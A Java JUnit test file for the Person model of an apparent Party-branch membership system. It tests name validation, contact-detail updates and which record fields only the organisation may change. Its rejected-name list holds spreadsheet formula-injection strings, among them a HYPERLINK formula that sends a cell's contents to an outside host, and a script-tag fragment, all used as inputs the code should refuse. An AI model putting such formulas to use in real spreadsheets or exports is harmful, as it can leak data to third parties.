package org.jiannuo.domain.model.person;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import org.jiannuo.domain.model.organization.OrgUnit;
import org.jiannuo.domain.model.organization.OrgUnitType;
import org.jiannuo.domain.model.shared.RuleViolation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PersonTest {

    private final Person person = new Person(OrgUnit.root(OrgUnitType.BRANCH, "东岭村党支部"), "王秀英",
            IdCardNumber.withCheckCharacter("41052319800101002"), PartyStatus.FULL_MEMBER);

    @ParameterizedTest
    @ValueSource(strings = {"张三", "买买提·艾力", "Anna Maria Schmidt", "José", "欧阳 娜娜"})
    void aNameIsLettersOfANameJoinedBySpacesOrTheMiddleDot(String name) {
        person.revise(withName(name));

        assertEquals(name, person.getName());
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=HYPERLINK(\"http://x.cn/?\"&C2,\"详情\")", "+张三", "-张三", "@张三", "张三1",
        "张三<script>", "·张三", "张三·", "张··三", "张三\u0000"})
    void anythingElseIsRefusedAsAName(String name) {
        RuleViolation refused = assertThrows(RuleViolation.class, () -> person.revise(withName(name)));

        assertEquals("person.nameInvalid", refused.code());
        assertEquals("王秀英", person.getName(), "nothing changed");
    }

    @Test
    void aNameIsBoundedAndItsSpacesAreOne() {
        person.revise(withName("  Anna   Maria "));
        assertEquals("Anna Maria", person.getName());

        assertEquals("person.nameTooLong",
                assertThrows(RuleViolation.class, () -> person.revise(withName("张".repeat(61)))).code());
        assertEquals("person.nameInvalid", assertThrows(RuleViolation.class,
                () -> new Person(person.getOrgUnit(), "=1+1", IdCardNumber.withCheckCharacter("41052319800101003"),
                        PartyStatus.FULL_MEMBER)).code(), "an import creates people through the same rule");
    }

    @Test
    void aPersonChangesTheirOwnPhoneAndEmail() {
        PersonProfile own = PersonProfile.of(person);
        person.reviseContact(new PersonProfile(" " + own.name(), "13900001111", "wang@example.cn", own.partyStatus(), "",
                null, own.leadingCadreLevel(), own.retired(), own.infirm(), own.floating(), "", own.villageCategory()));

        assertEquals("13900001111", person.getPhone());
        assertEquals("wang@example.cn", person.getEmail());
    }

    @Test
    void theRestOfTheirRecordIsTheOrganizationsAndAnAttemptChangesNothing() {
        PersonProfile own = PersonProfile.of(person);
        PersonProfile[] attempts = {
            new PersonProfile("王秀", "13900001111", null, own.partyStatus(), null, null, null, false, false, false, null, null),
            new PersonProfile(own.name(), "13900001111", null, PartyStatus.PROBATIONARY_MEMBER, null, null, null, false,
                    false, false, null, null),
            new PersonProfile(own.name(), "13900001111", null, own.partyStatus(), null, null, null, true, true, true,
                    "深圳", null),
            new PersonProfile(own.name(), "13900001111", null, own.partyStatus(), "村委会主任", null, null, false, false,
                    false, null, null),
            new PersonProfile(own.name(), "13900001111", null, own.partyStatus(), null, null, LeadingCadreLevel.values()[0],
                    false, false, false, null, null)
        };
        for (PersonProfile attempt : attempts) {
            RuleViolation refused = assertThrows(RuleViolation.class, () -> person.reviseContact(attempt));
            assertEquals("person.organizationKeepsRecord", refused.code());
        }
        assertEquals(own, PersonProfile.of(person), "nothing changed, not even the phone");
    }

    private PersonProfile withName(String name) {
        PersonProfile own = PersonProfile.of(person);
        return new PersonProfile(name, own.phone(), own.email(), own.partyStatus(), own.post(), own.assignedPost(),
                own.leadingCadreLevel(), own.retired(), own.infirm(), own.floating(), own.floatingLocation(),
                own.villageCategory());
    }
}
